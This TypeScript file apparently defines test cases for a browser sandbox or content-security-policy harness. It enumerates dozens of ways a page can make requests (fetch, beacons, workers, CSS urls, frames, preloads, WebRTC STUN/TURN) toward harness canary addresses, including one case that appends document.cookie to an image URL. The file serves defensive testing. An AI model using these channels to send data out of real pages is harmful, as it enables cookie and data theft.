/** Everything that makes a browser ask an address for something, and could carry data away in it. */
import { attack, type Attack, type Targets } from '../attack.ts';

const asks = (id: string, title: string, html: (url: string) => string): Attack =>
  attack('requests', id, title, { html: (at: Targets) => html(at.http(id)), seen: 'canary' });

const does = (id: string, title: string, script: (url: string) => string, click?: true): Attack =>
  attack('requests', id, title, {
    script: (at: Targets) => script(at.http(id)),
    seen: 'canary',
    ...(click && { click }),
  });

const worker = (code: string): string => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`;

export const requests: readonly Attack[] = [
  does('fetch', 'fetches an address', (url) => `await fetch('${url}')`),
  does('fetch-no-cors', 'fetches without asking for CORS', (url) => `await fetch('${url}', { mode: 'no-cors' })`),
  does(
    'fetch-keepalive',
    'fetches on after it is gone',
    (url) => `await fetch('${url}', { keepalive: true, method: 'POST', body: 'x' })`,
  ),
  does('fetch-later', 'schedules a fetch for its end', (url) => `fetchLater('${url}', { activateAfter: 0 })`),
  does(
    'xhr',
    'sends an XMLHttpRequest',
    (url) => `const x = new XMLHttpRequest(); x.open('POST', '${url}'); x.send('x')`,
  ),
  does(
    'xhr-sync',
    'sends a synchronous XMLHttpRequest',
    (url) => `const x = new XMLHttpRequest(); x.open('GET', '${url}', false); x.send()`,
  ),
  does('beacon', 'sends a beacon', (url) => `navigator.sendBeacon('${url}', 'x')`),
  does('eventsource', 'opens an event source', (url) => `new EventSource('${url}')`),
  attack('requests', 'websocket', 'opens a WebSocket', {
    script: (at, id) => `new WebSocket('${at.ws(id)}')`,
    seen: 'canary',
  }),
  attack('requests', 'webtransport', 'opens a WebTransport', {
    script: (at, id) => `await new WebTransport('https://${at.udp(id)}/').ready`,
    seen: 'canary',
    socket: 'udp',
  }),
  does('worker-fetch', 'fetches from a worker', (url) => worker(`fetch('${url}')`)),
  does('worker-import', 'imports a script into a worker', (url) => worker(`importScripts('${url}.js')`)),
  does('worker-module', 'imports a module into a worker', (url) => worker(`import('${url}.js')`)),
  attack('requests', 'worker-websocket', 'opens a WebSocket from a worker', {
    script: (at, id) => worker(`new WebSocket('${at.ws(id)}')`),
    seen: 'canary',
  }),
  does('worker-src', 'starts a worker from an address', (url) => `new Worker('${url}.js')`),
  does(
    'shared-worker',
    'fetches from a shared worker',
    (url) => `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${url}')"])))`,
  ),
  does(
    'audio-worklet',
    'adds an audio worklet',
    (url) => `await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('${url}.js')`,
  ),
  does('dynamic-import', 'imports a module', (url) => `await import('${url}.js')`),
  asks('script-src', 'loads a script', (url) => `<script src="${url}.js"></script>`),
  asks('module-src', 'loads a module script', (url) => `<script type="module" src="${url}.js"></script>`),
  asks(
    'module-import',
    'imports from an address in a module of its own',
    (url) => `<script type="module">import '${url}.js';</script>`,
  ),
  asks(
    'import-map',
    'maps a bare name to an address',
    (url) =>
      `<script type="importmap">{ "imports": { "evil-name": "${url}.js" } }</script><script type="module">import 'evil-name';</script>`,
  ),
  asks('svg-load', 'fetches when a drawing has loaded', (url) => `<svg onload="fetch('${url}')"></svg>`),
  asks(
    'svg-foreign',
    'shows a page inside a drawing',
    (url) => `<svg><foreignObject width="9" height="9"><iframe src="${url}"></iframe></foreignObject></svg>`,
  ),
  asks('svg-script', 'loads a script in a drawing', (url) => `<svg><script href="${url}.js"></script></svg>`),
  asks('stylesheet', 'loads a style sheet', (url) => `<link rel="stylesheet" href="${url}">`),
  asks('css-import', 'imports a style sheet', (url) => `<style>@import '${url}';</style>`),
  asks('css-background', 'shows a background image', (url) => `<p style="background: url('${url}')">x</p>`),
  asks(
    'css-content',
    'shows an image as content',
    (url) => `<style>#c1::before { content: url('${url}') }</style><p id="c1">x</p>`,
  ),
  asks(
    'css-list',
    'shows an image as list marker',
    (url) => `<ul><li style="list-style-image: url('${url}')">x</li></ul>`,
  ),
  asks(
    'css-border',
    'shows an image as border',
    (url) => `<p style="border: 2px solid; border-image: url('${url}') 2">x</p>`,
  ),
  asks('css-mask', 'masks with an image', (url) => `<p style="mask-image: url('${url}')">x</p>`),
  asks('css-image-set', 'shows one of a set of images', (url) => `<p style="background: image-set('${url}' 1x)">x</p>`),
  asks(
    'css-font',
    'loads a font',
    (url) => `<style>@font-face { font-family: f1; src: url('${url}') }</style><p style="font-family: f1">x</p>`,
  ),
  asks('css-filter', 'filters with a drawing elsewhere', (url) => `<p style="filter: url('${url}#f')">x</p>`),
  does('font-face', 'loads a font by script', (url) => `await new FontFace('f2', "url('${url}')").load()`),
  asks('img', 'shows an image', (url) => `<img src="${url}">`),
  asks('img-srcset', 'shows one of several images', (url) => `<img srcset="${url} 1x">`),
  asks('picture', 'shows a picture', (url) => `<picture><source srcset="${url}"><img></picture>`),
  does('image-object', 'loads an image by script', (url) => `new Image().src = '${url}'`),
  asks('input-image', 'shows an image as button', (url) => `<input type="image" src="${url}">`),
  asks(
    'table-background',
    'shows an old background attribute',
    (url) => `<table background="${url}"><tr><td>x</table>`,
  ),
  asks('video', 'plays a video', (url) => `<video src="${url}" preload="auto"></video>`),
  asks('video-source', 'plays a video source', (url) => `<video preload="auto"><source src="${url}"></video>`),
  asks('video-poster', 'shows a poster', (url) => `<video poster="${url}"></video>`),
  asks('audio', 'plays a sound', (url) => `<audio src="${url}" preload="auto"></audio>`),
  does(
    'track',
    'loads subtitles',
    (url) =>
      `const v = document.createElement('video'); v.crossOrigin = 'anonymous'; v.innerHTML = '<track kind="subtitles" default src="${url}">'; document.body.append(v); v.textTracks[0].mode = 'showing'`,
  ),
  asks('svg-image', 'shows an image in a drawing', (url) => `<svg><image href="${url}" width="5" height="5"/></svg>`),
  asks('svg-use', 'uses a drawing elsewhere', (url) => `<svg><use href="${url}#x"/></svg>`),
  asks(
    'svg-filter-image',
    'filters with an image',
    (url) =>
      `<svg><filter id="ff"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#ff)"/></svg>`,
  ),
  does(
    'icon',
    'names an icon',
    (url) => `document.head.insertAdjacentHTML('beforeend', '<link rel="icon" href="${url}">')`,
  ),
  asks('prefetch', 'prefetches', (url) => `<link rel="prefetch" href="${url}">`),
  asks('preload', 'preloads an image', (url) => `<link rel="preload" as="image" href="${url}">`),
  asks('preload-fetch', 'preloads data', (url) => `<link rel="preload" as="fetch" crossorigin href="${url}">`),
  asks('modulepreload', 'preloads a module', (url) => `<link rel="modulepreload" href="${url}.js">`),
  asks('manifest', 'names a manifest', (url) => `<link rel="manifest" href="${url}">`),
  does(
    'speculation',
    'has a page prefetched by rules',
    (url) =>
      `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${url}'], eagerness: 'immediate' }] }); document.head.append(s)`,
  ),
  attack('requests', 'preconnect', 'opens a connection ahead', {
    html: (at, id) => `<link rel="preconnect" href="http://${at.tcp(id)}">`,
    seen: 'canary',
    socket: 'tcp',
  }),
  attack('requests', 'dns-prefetch', 'looks a name up ahead (no name server to see it)', {
    html: (_, id) => `<link rel="dns-prefetch" href="//${id}.invalid">`,
    seen: 'canary',
  }),
  asks('attribution', 'registers an attribution source', (url) => `<img attributionsrc="${url}">`),
  asks('iframe', 'shows a page in itself', (url) => `<iframe src="${url}"></iframe>`),
  asks('object', 'shows an object', (url) => `<object data="${url}"></object>`),
  asks('embed', 'embeds something', (url) => `<embed src="${url}">`),
  asks('frame-srcdoc', 'asks from a page inside itself', (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`),
  does(
    'frame-blob',
    'asks from a page of its own making',
    (url) =>
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='${url}'>"], { type: 'text/html' })); document.body.append(f)`,
  ),
  does(
    'frame-blank',
    'fetches with the fetch of an empty frame',
    (url) =>
      `const f = document.createElement('iframe'); document.body.append(f); await f.contentWindow.fetch('${url}')`,
  ),
  does(
    'frame-script',
    'asks from a frame with a script for address',
    (url) =>
      `const f = document.createElement('iframe'); f.src = "javascript:'<img src=${url}>'"; document.body.append(f)`,
  ),
  does(
    'form-frame',
    'sends a form into a frame',
    (url) =>
      `document.body.insertAdjacentHTML('beforeend', '<iframe name="sink"></iframe><form action="${url}" target="sink"><input name="a" value="b"></form>'); document.body.lastElementChild.submit()`,
  ),
  attack('requests', 'ping', 'pings when a link is clicked', {
    html: (at, id) => `<a id="go-${id}" href="#here" ping="${at.http(id)}">${id}</a>`,
    click: true,
    seen: 'canary',
  }),
  does(
    'csp-report',
    'has violations reported',
    (url) =>
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="manifest-src none; report-uri ${url}">')`,
  ),
  does(
    'reading-cookie-image',
    'carries the host cookie in an image',
    (url) => `new Image().src = '${url}?' + document.cookie`,
  ),
];

const peer = (url: string, more = ''): string =>
  `const make = window.RTCPeerConnection ?? (() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.RTCPeerConnection; })();
   const p = new make({ iceServers: [{ urls: '${url}'${more} }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => setTimeout(done, 900))`;
const WHY = { why: 'no policy covers WebRTC before Chromium 152', before: 152 };

export const webrtc: readonly Attack[] = [
  attack('webrtc', 'stun', 'asks a STUN server', {
    script: (at, id) => peer(`stun:${at.udp(id)}`),
    seen: 'canary',
    socket: 'udp',
    leaks: WHY,
  }),
  attack('webrtc', 'turn', 'asks a TURN server', {
    script: (at, id) => peer(`turn:${at.udp(id)}?transport=udp`, ", username: 'data', credential: 'x'"),
    seen: 'canary',
    socket: 'udp',
    leaks: WHY,
  }),
  attack('webrtc', 'turn-tcp', 'asks a TURN server over TCP', {
    script: (at, id) => peer(`turn:${at.tcp(id)}?transport=tcp`, ", username: 'data', credential: 'x'"),
    seen: 'canary',
    socket: 'tcp',
    leaks: WHY,
  }),
  attack('webrtc', 'stun-other-realm', 'asks a STUN server with the WebRTC of an empty frame', {
    script: (at, id) =>
      `const f = document.createElement('iframe'); document.body.append(f); const make = f.contentWindow.RTCPeerConnection; ${peer(`stun:${at.udp(id)}`).replace(/^const make = .*$/m, '')}`,
    seen: 'canary',
    socket: 'udp',
    leaks: WHY,
  }),
];
